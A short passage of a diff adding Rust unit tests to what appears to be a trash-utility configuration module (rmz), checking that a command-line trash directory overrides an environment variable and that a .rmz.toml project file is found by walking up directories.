+        layers.push_env(env(&[("RMZ_TRASH_PATH", "/env/trash")])).unwrap();
+        layers.push_trash_dir(&dir.path().join("isolated"));
+        let resolved = layers.resolve().unwrap();
+
+        assert_eq!(resolved.config.trash_path, dir.path().join("isolated"));
+        assert_eq!(resolved.origin("trash_path"), Some(&Origin::CommandLine("--trash-dir".to_string())));
+    }
+
+    #[test]
+    fn test_find_project_file_walks_up() {
+        let dir = TempDir::new().unwrap();
+        let project = write(&dir, "repo/.rmz.toml", "");
+        fs::create_dir_all(dir.path().join("repo/src/deep")).unwrap();
+
+        assert_eq!(find_project_file(&dir.path().join("repo/src/deep")), Some(project));
+        assert_eq!(find_project_file(dir.path()), None);
+    }
+}